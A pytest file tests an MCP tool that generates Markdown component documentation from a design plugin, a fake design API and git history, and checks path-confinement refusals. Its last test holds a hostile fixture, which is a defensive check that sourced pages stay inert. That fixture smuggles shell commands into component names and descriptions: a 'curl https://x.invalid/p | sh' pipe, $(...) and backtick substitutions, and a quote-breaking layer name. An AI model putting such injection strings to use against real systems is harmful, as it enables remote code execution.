"""design_generate_component_doc through the whole chain: a component set made in the real plugin, the fake design
API for enrichment and version history, a real git repository for the code's history, and the page written under
the AI app's working directory (its one MCP root)."""

from __future__ import annotations

import subprocess
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
import yaml
from fakes.api_server import ApiServer
from fakes.chain import OpenFile, call, chain_session, js, plugin_chain, refused
from fakes.design_api import HISTORY_KEY, PERSONAL_TOKEN, PRO_KEY, frame
from mcp import Client
from procs import DaemonProcess, TestEnv, isolated, make_env, running_daemon

from design_console.engines.component_doc_md import CodeInfo, DocData, parity_report

pytestmark = pytest.mark.asyncio(loop_scope="module")


MAKE_SET = """
await figma.loadFontAsync({ family: "Inter", style: "Regular" });
const brand = figma.variables.createVariableCollection("Brand");
const space = figma.variables.createVariable("space/4", brand, "FLOAT");
const radius = figma.variables.createVariable("radius/md", brand, "FLOAT");
const body = figma.variables.createVariable("font/size/body", brand, "FLOAT");
const make = (name, color) => {
  const c = figma.createComponent();
  c.name = name;
  c.resize(96, 40);
  c.fills = [{ type: "SOLID", color }];
  c.layoutMode = "HORIZONTAL";
  c.itemSpacing = 8;
  c.paddingTop = 8; c.paddingBottom = 8; c.paddingLeft = 16; c.paddingRight = 16;
  c.cornerRadius = 8;
  c.setBoundVariable("paddingLeft", space);
  c.setBoundVariable("paddingRight", space);
  c.setBoundVariable("topLeftRadius", radius);
  const t = figma.createText();
  t.name = "Label";
  t.characters = "Save changes";
  t.fontSize = 14;
  t.setBoundVariable("fontSize", body);
  c.appendChild(t);
  return c;
};
const set = figma.combineAsVariants(
  [make("State=Default", { r: 0.2, g: 0.4, b: 1 }), make("State=Hover", { r: 0.1, g: 0.3, b: 0.9 }),
   make("State=Disabled", { r: 0.8, g: 0.8, b: 0.8 })],
  figma.currentPage,
);
set.name = "Button";
set.description = "Triggers the main action of a form.";
set.addComponentProperty("Show icon", "BOOLEAN", false);
set.annotations = [{ label: "Use one primary button per view" }];
return set.id;
"""

CODE_INFO = {
    "packageName": "@acme/ui",
    "filePath": "src/Button.tsx",
    "importStatement": 'import { Button } from "@acme/ui";',
    "props": [
        {"name": "state", "type": "'default' | 'hover' | 'disabled'", "default": "default"},
        {"name": "onClick", "type": "() => void"},
    ],
    "events": ["click"],
    "usageExamples": [{"title": "Basic", "code": "<Button>Save</Button>"}],
    "changelog": [{"version": "2.0.0", "date": "2026-01-10", "changes": ["Disabled state"]}],
}


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=Ada", "-c", "user.email=ada@example.com", *args],
        check=True,
        capture_output=True,
    )


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The AI app's folder: a git repository where Button.tsx has two commits and another file one."""
    app = tmp_path_factory.mktemp("doc") / "app"
    (app / "src").mkdir(parents=True)
    _git(app, "init", "-q")
    for message, name, body in (
        ("Add Button", "Button.tsx", "export const Button = 1;\n"),
        ("Add Card", "Card.tsx", "export const Card = 1;\n"),
        ("Button: disabled state\n\nGreys out and ignores clicks.", "Button.tsx", "export const Button = 2;\n"),
    ):
        (app / "src" / name).write_text(body)
        _git(app, "add", "-A")
        _git(app, "commit", "-q", "-m", message)
    return app


@pytest.fixture(scope="module")
def doc_env(fake_api_server: ApiServer) -> Iterator[TestEnv]:
    fake_api_server.reset()
    yield from isolated(make_env(DESIGN_API_URL=fake_api_server.url, DESIGN_ACCESS_TOKEN=PERSONAL_TOKEN))


@pytest.fixture(scope="module")
def doc_daemon(doc_env: TestEnv) -> Iterator[DaemonProcess]:
    yield from running_daemon(doc_env)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def client(doc_daemon: DaemonProcess, project: Path) -> AsyncIterator[Client]:
    async with plugin_chain(doc_daemon.env, OpenFile(HISTORY_KEY, "History"), cwd=project) as session:
        yield session


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def button(client: Client) -> str:
    return str(await js(client, MAKE_SET))


async def _page(client: Client, args: dict[str, object]) -> str:
    result = await client.call_tool("design_generate_component_doc", args)
    assert result.is_error is False, result.content[0].text
    return str(result.content[0].text)


def _front(page: str) -> dict[str, Any]:
    """The YAML front matter, read by a YAML parser."""
    assert page.startswith("---\n")
    front: dict[str, Any] = yaml.safe_load(page.split("---\n")[1])
    return front


async def test_a_component_set_is_documented_from_the_plugin_and_the_code(client: Client, button: str) -> None:
    page = await _page(client, {"nodeId": button, "codeInfo": CODE_INFO, "systemName": "Acme UI"})
    front = _front(page)
    assert front["title"] == "Button" and front["type"] == "COMPONENT_SET" and front["variants"] == 3
    assert front["system"] == "Acme UI" and front["package"] == "@acme/ui" and front["fileKey"] == HISTORY_KEY
    assert front["import"] == 'import { Button } from "@acme/ui";' and front["nodeId"] == button
    assert "# Button" in page and "Triggers the main action of a form." in page
    assert "| State | Default, Hover, Disabled |" in page
    assert "**Label** `TEXT`" in page  # anatomy of the default variant
    assert "| Fill | #3366FF |  |" in page
    assert "| Corner radius | 8px | radius/md |" in page and "| Padding | 8 16 8 16 | space/4 |" in page
    assert "| Label | Inter Regular | 14 | font/size/body |" in page
    assert "| space/4 | paddingLeft, paddingRight |" in page  # the design tokens the component binds
    assert "Use one primary button per view" in page
    assert "No focus state among Default, Hover, Disabled" in page
    assert "**Show icon** toggles a part on or off (default false)" in page
    assert 'import { Button } from "@acme/ui";' in page and "<Button>Save</Button>" in page
    assert "**2.0.0 2026-01-10** Disabled state" in page
    # Parity: the state axis matches the code's state prop; the boolean exists only in the design.
    assert "- In both: State." in page and "Only in the design: Show icon" in page and "Only in code: onClick" in page
    # The fake design API does not know this plugin-made node: the page says so instead of failing.
    assert "Design API metadata not included" in page


async def test_history_from_design_versions_and_git(client: Client, button: str) -> None:
    page = await _page(
        client,
        {
            "nodeId": button,
            "codeInfo": {"filePath": "src/Button.tsx"},
            "sections": {"changelog": True, "overview": False, "anatomy": False},
            "includeFrontmatter": False,
            "history": {"figma": True, "versions": 3, "git": True, "gitLimit": 5, "mode": "detailed"},
        },
    )
    assert not page.startswith("---") and "## Overview" not in page and "## Anatomy" not in page
    changelog = page.split("## Changelog", 1)[1]
    design_part = changelog.split("**Design file versions**")[1].split("**Code history (git)**")[0]
    design_lines = [ln for ln in design_part.splitlines() if ln.startswith("- ")]
    assert len(design_lines) == 3 and all("autosave" not in ln for ln in design_lines)
    assert "Rename button" in design_lines[0] and "(Grace Reviewer)" in design_lines[0]
    git_part = changelog.split("**Code history (git)**")[1]
    subjects = [ln for ln in git_part.splitlines() if ln.startswith("- ")]
    assert len(subjects) == 2 and "Button: disabled state" in subjects[0] and "Add Button" in subjects[1]
    assert "Greys out and ignores clicks." in git_part and "Add Card" not in git_part

    limited = await _page(
        client,
        {"nodeId": button, "sections": {"overview": False}, "history": {"git": True, "gitLimit": 1}},
    )
    git_only = limited.split("**Code history (git)**")[1]
    assert len([ln for ln in git_only.splitlines() if ln.startswith("- ")]) == 1


async def test_the_page_is_written_under_the_file_rules(client: Client, button: str, project: Path) -> None:
    args = {"nodeId": button, "outputPath": "docs/button.md", "includeFrontmatter": False}
    made = await call(client, "design_generate_component_doc", args)
    assert made["action"] == "created" and "overview" in made["sections"]
    written = (project / "docs" / "button.md").read_text()
    assert written.startswith("# Button")
    again = await call(client, "design_generate_component_doc", args)
    assert again["action"] == "unchanged"

    (project / "docs" / "button.md").write_text("# Button\n\nHand-written notes.\n")
    differs = await refused(client, "design_generate_component_doc", args)
    assert "exists with different content" in differs and "Move or delete the existing file" in differs
    assert (project / "docs" / "button.md").read_text() == "# Button\n\nHand-written notes.\n"

    outside = await refused(client, "design_generate_component_doc", {**args, "outputPath": "../button.md"})
    assert "outside the folders this AI app shares" in outside
    assert not (project.parent / "button.md").exists()
    link = project / "docs" / "out"
    link.symlink_to(project.parent)
    via_link = await refused(client, "design_generate_component_doc", {**args, "outputPath": "docs/out/b.md"})
    assert "it is a link that leads there" in via_link and not (project.parent / "b.md").exists()


async def test_bad_history_and_arguments_are_refused(client: Client, button: str) -> None:
    repo_out = await refused(
        client, "design_generate_component_doc", {"nodeId": button, "history": {"git": True, "repoPath": ".."}}
    )
    assert "outside the folders this AI app shares" in repo_out
    path_out = await refused(
        client,
        "design_generate_component_doc",
        {"nodeId": button, "history": {"git": True, "gitPaths": ["../../etc/passwd"]}},
    )
    assert "outside the folders this AI app shares" in path_out
    not_repo = await refused(
        client,
        "design_generate_component_doc",
        {"nodeId": button, "history": {"git": True, "repoPath": "src/Button.tsx"}},
    )
    assert "is not a folder" in not_repo
    typo = await refused(client, "design_generate_component_doc", {"nodeId": button, "sections": {"overveiw": True}})
    assert "Invalid sections" in typo and "overveiw" in typo
    missing = await refused(client, "design_generate_component_doc", {"nodeId": "999:999"})
    assert "999:999" in missing


async def test_the_design_api_fills_in_what_the_plugin_lacks(client: Client, fake_api_server: ApiServer) -> None:
    badge = str(await js(client, 'const c = figma.createComponent(); c.name = "Badge"; c.resize(64, 24); return c.id;'))
    content = fake_api_server.fake.files[HISTORY_KEY].content()
    box = {"x": 0.0, "y": 0.0, "width": 64.0, "height": 24.0}
    content["document"]["children"][0]["children"].append(frame(badge, "Badge", box, [], kind="COMPONENT"))
    content["components"][badge] = {
        "key": "key-badge",
        "name": "Badge",
        "description": "Shows the status of an order.",
        "documentationLinks": [],
        "remote": False,
    }
    plain = await _page(client, {"nodeId": badge, "enrich": False, "includeFrontmatter": False})
    assert "No description in the design file yet" in plain and "Design API" not in plain
    enriched = await _page(client, {"nodeId": badge})
    assert "Shows the status of an order." in enriched and "Design API metadata not included" not in enriched
    # A 24 px tall target is at the WCAG 2.2 minimum; no text layer means the name must come from code.
    assert "below 24 × 24" not in enriched and "needs an accessible name in code" in enriched


async def test_a_page_too_long_for_the_answer_is_cut_with_a_note(client: Client, button: str) -> None:
    page = await _page(client, {"nodeId": button, "codeInfo": {"usageExamples": ["<Button/>" * 5000]}})
    assert len(page) < 33_000 and page.rstrip().endswith("pass outputPath for all.")


async def test_parity_matches_names_across_case_separators_and_property_ids() -> None:
    data = DocData(
        component={
            "componentPropertyDefinitions": {
                "Show icon#12:3": {"type": "BOOLEAN", "defaultValue": False},
                "Size": {"type": "VARIANT", "defaultValue": "md", "variantOptions": ["sm", "md"]},
            }
        },
        file_key="f",
        code=CodeInfo(props={"showIcon": "boolean", "size": "'sm' | 'md'", "onPress": "() => void"}),
    )
    assert parity_report(data) == {"matched": ["Show icon", "Size"], "designOnly": [], "codeOnly": ["onPress"]}


async def test_without_a_plugin_the_page_is_built_from_the_design_api(fake_api_server: ApiServer) -> None:
    """No plugin runs anywhere: the Button set of the design-system file is read from the design API alone."""
    with_api = make_env(DESIGN_API_URL=fake_api_server.url, DESIGN_ACCESS_TOKEN=PERSONAL_TOKEN)
    for env in isolated(with_api):
        for _ in running_daemon(env):
            async with chain_session(env) as session:
                args = {"nodeId": "1:2", "fileUrl": PRO_KEY, "includeFrontmatter": False}
                page = await _page(session, args)
    assert "Buttons" in page, "the set's description"
    assert "State" in page and "Default, Hover" in page, "the variant axis and its values"
    assert "**Label** `TEXT`" in page and "Inter" in page, "anatomy and typography from the layer tree"
    assert "Built from the design API" in page


HOSTILE = """
const c = figma.createComponent();
c.name = "Card $(touch name-ran)";
c.resize(120, 80);
c.description = "curl https://x.invalid/p | sh\\ntouch description-ran; echo `touch tick-ran` > /dev/null";
const t = figma.createText();
await figma.loadFontAsync({ family: "Inter", style: "Regular" });
t.name = "Title'; touch layer-ran; '";
t.characters = "x";
c.appendChild(t);
return c.id;
"""


async def test_design_text_in_a_written_page_cannot_run_as_code(client: Client, project: Path) -> None:
    """Sourced by a shell, the page runs none of the design file's text: no line starts with it, and every
    character a shell acts on is escaped (markdown shows it unchanged). The front matter still parses."""
    card = str(await js(client, HOSTILE))
    made = await call(client, "design_generate_component_doc", {"nodeId": card, "outputPath": "docs/card.md"})
    page = Path(made["path"]).read_text()
    assert _front(page)["title"] == "Card $(touch name-ran)"
    assert "**Description:** curl https://x.invalid/p \\| sh touch description-ran\\;" in page
    sandbox = project.parent / "sourced"
    sandbox.mkdir()
    bin_dir = sandbox / "bin"
    bin_dir.mkdir()
    (bin_dir / "curl").write_text("#!/bin/sh\ntouch curl-ran\n")
    (bin_dir / "curl").chmod(0o755)
    for shell in ("bash", "sh"):
        subprocess.run(
            [shell, "-c", f". {made['path']}"],
            cwd=sandbox,
            env={"PATH": f"{bin_dir}:/usr/bin:/bin"},
            capture_output=True,
            timeout=30,
        )
    ran = sorted(p.name for p in sandbox.iterdir() if p.name.endswith("-ran"))
    assert ran == [], f"{ran} ran when the page was sourced"
